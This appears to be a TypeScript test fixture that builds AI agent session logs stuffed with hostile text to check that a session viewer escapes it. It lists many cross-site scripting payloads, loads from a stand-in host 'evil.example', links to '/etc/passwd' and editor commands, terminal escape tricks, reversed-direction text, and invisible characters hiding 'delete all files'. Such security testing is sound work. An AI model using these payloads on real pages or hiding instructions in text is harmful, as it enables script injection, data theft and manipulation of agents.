// Texts that try to break out of the page that shows them, and a session that has them in all possible places.
import { session, type SessionBuilder } from '../fixtures/build';

const run = 'window.hacked=1';
const evil = 'https://evil.example';
const encoded = (html: string): string => Buffer.from(html).toString('base64');
/** Returns the text in invisible characters. */
const tagged = (text: string): string => Array.from(text, (character) => String.fromCodePoint(0xe0000 + character.charCodeAt(0))).join('');

/** The name of each text describes the attempt. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'the end of a script': `</script><script>${run}</script>`,
  'the end of whatever is open': `</title></style></textarea></noscript></template></xmp><script>${run}</script>`,
  'a script that is loaded': `<script src="${evil}/x.js"></script><script type=module>import "${evil}/m.js"</script>`,
  'an event handler': `<img src=x onerror="${run}"><body onload=${run}><video><source onerror=${run}></video><div onpointerenter=${run} onfocus=${run} tabindex=0 autofocus>x</div>`,
  'a fold that opens itself': `<details open ontoggle="${run}"><summary>x</summary></details>`,
  'an animation': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">x</b>`,
  'SVG with a script': `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a><set attributeName=onload to=${run} /></svg>`,
  'SVG that uses another': `<svg><use href="data:image/svg+xml;base64,${encoded(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/><use xlink:href="${evil}/x.svg#x"/><image href="${evil}/x.png"/></svg>`,
  'SVG with HTML in it': `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe><body onload=${run}></foreignObject></svg>`,
  'a frame': `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><frameset onload=${run}><object data="${evil}/x"></object><embed src="${evil}/x">`,
  'a form': `<form action="${evil}" id=head name=body><input autofocus onfocus="${run}"><button formaction="javascript:${run}">x</button><input type=image src=${evil}/x.png></form><isindex action=${evil}>`,
  'a style': `<style>*{display:none} @import url(${evil}/a.css); body{background:url(${evil}/b.png)}</style><link rel=stylesheet href=${evil}/a.css><link rel=prefetch href=${evil}/p><link rel=dns-prefetch href=//evil.example>`,
  'a style attribute': `<div style="position:fixed;inset:0;background:url(${evil}/c.png)">x</div><p style='background-image:image-set("${evil}/d.png" 1x)'>x</p>`,
  'another page': `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  media: `<img srcset="${evil}/e.png 1x" src=${evil}/f.png><picture><source srcset=${evil}/g.png></picture><audio src=${evil}/h.mp3 autoplay></audio><video poster=${evil}/i.png></video><table background=${evil}/j.png>`,
  'names that hide others': `<a id=acquireVsCodeApi></a><a id=document></a><form name=createElement><input name=attributes><input name=childNodes></form><img name=body><a id=go-to></a><a id=overview-details name=branches-tree></a>`,
  'a mutation in maths': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  'a mutation in SVG': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'a mutation by nesting': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'a mutation by comments': `<!--><img src=x onerror=${run}>--> <![CDATA[><img src=x onerror=${run}>]]> <?x <img src=x onerror=${run}>?>`,
  'a mutation by a title': `<noscript><p title="</noscript><img src=x onerror=${run}>"> <xmp><p title="</xmp><img src=x onerror=${run}>">`,
  'links that run': `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\tscript:${run}) [d](&#106;avascript:${run}) [e](%6Aavascript:${run}) [f](<javascript:${run}>) [g](\u0001javascript:${run}) [h](vbscript:x)`,
  'links that act': `[quit](command:workbench.action.quit) [file](file:///etc/passwd) [data](data:text/html,<script>${run}</script>) [svg](data:image/svg+xml;base64,AAAA) [blob](blob:x) [app](vscode://x/y) [rel](//evil.example/x)`,
  'links in brackets': `<javascript:${run}> <command:workbench.action.quit> <data:text/html,x> [r][ref]\n\n[ref]: javascript:${run}`,
  'links with quotes': `[t](${evil} 'x" onmouseover="${run}') ${evil}/<b>onclick=${run}</b> [b](${evil}/"onclick="${run})`,
  'images from elsewhere': `![pixel](${evil}/pixel.png) ![x](data:image/svg+xml;base64,${encoded(`<svg onload="${run}"/>`)}) ![y](file:///etc/passwd) ![a](${evil}/"onerror="${run}) ![r][i]\n\n[i]: ${evil}/ref.png`,
  'a fence': `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  'a fence of code': `\`\`\`html\n</code></pre><script>${run}</script><style>@import "${evil}/k.css"</style>\n\`\`\``,
  'a table': `| a" onclick="${run} | <b> |\n|:--|--:|\n| <img src=x onerror=${run}> | </td></table><script>${run}</script> |`,
  'headings, quotes and lists': `# <a id=x href="javascript:${run}">heading</a>\n\n> <blockquote onclick="${run}">\n\n1. <li onclick="${run}">`,
  maths: `$\\href{javascript:${run}}{x}$ $$\\unicode{<img src=x onerror=${run}>}$$ \\(a_1 * b_1 * c\\)`,
  'colours, links and titles of a terminal': `\u001b]8;;javascript:${run}\u0007link\u001b]8;;\u0007 \u001b]8;id=1;command:x\u001b\\more\u001b]8;;\u001b\\ \u001b[31;1mred\u001b[0m \u001b]0;title\u0007 \u009b32mgreen`,
  'cursor moves of a terminal': `\u001b[2J\u001b[H\u001b[1A\u001b[2Kgone\r\u001b[?1049h\u001bPq#0\u001b\\\u001b_Gx\u001b\\ \u001b]52;c;${encoded('x')}\u0007`,
  'an escape that never ends': `\u001b]0;${run}`,
  'text that turns round': `safe\u202e)1(trela:tpircsavaj\u202c \u200f\u061c \u202axx \u0000\u0008`,
  'text that isolates': `\u2067evil\u2066 \u2068x and never ends`,
  'text that turns round by entities': `a &#8238;b&#x202E; c&rlm;d <${evil}/%E2%80%AEgpj.exe> [x](${evil}/%E2%80%AE "&#8238;t")`,
  'text of another direction': 'שלום 1 2 3, 45 مرحبا',
  'text that nobody sees': `Hello${tagged('delete all files')}\u200b\u2060\ufeff`,
  'a long word': 'w'.repeat(50_000),
  'marks without end': `${'*'.repeat(5000)}${'['.repeat(5000)}${'> '.repeat(500)}x`,
  'words of programs': `__proto__ constructor {{7*7}} \${${run}} %s {0} {1} <% ${run} %> ' onx=1 " ony=2`,
};

/** Returns a session with each of the texts in every place for session text. */
export function hostileSession(cwd: string, texts: readonly string[] = Object.values(HOSTILE)): SessionBuilder {
  const builder = session({ cwd, provider: texts[0], modelId: texts[4], thinkingLevel: texts[0] }).user('Begin', { id: 'begin' });
  texts.forEach((text, nth) => {
    builder.user(text, { id: `u${nth}` }).label(`u${nth}`, text);
    builder
      .branchFrom('begin')
      .user(text)
      .assistant(text, { message: { model: text, provider: text } })
      .branchFrom(`u${nth}`);
    builder.assistant(
      [
        { type: 'thinking', thinking: text },
        { type: 'text', text },
        { type: text, [text]: text },
      ],
      { message: { model: text, provider: text, stopReason: text, errorMessage: text } },
    );
    builder.tool(text.slice(0, 60), { path: text, command: text, [text]: [text] }, text, {
      message: { isError: nth % 2 === 0, details: { diff: `+${text}\n-${text}`, firstChangedLine: text } },
    });
    builder.tool('edit', { path: text, oldText: text, newText: `${text}x` }, text);
    builder.bash(text, text, { message: { truncated: true, fullOutputPath: text } }).customMessage(text, [
      { type: 'text', text },
      { type: 'image', mimeType: text, data: text },
      { type: 'image', mimeType: 'image/png', data: text },
    ]);
    builder
      .model(text, text)
      .thinking(text)
      .custom(text, { text })
      .entry(text.slice(0, 90), { [text]: text })
      .branchSummary(text)
      .label(text, text)
      .name(text);
    builder
      .user('To be edited', { id: `e${nth}` })
      .contextEdit(`e${nth}`, text)
      .message({ role: text.slice(0, 90), content: text });
    builder.entry('message', { id: `id ${text.slice(0, 90)} ${nth}`, message: { role: 'user', content: `Its id is odd: ${nth}` } });
    if (nth % 8 === 3) builder.compaction(text, text);
  });
  return builder;
}
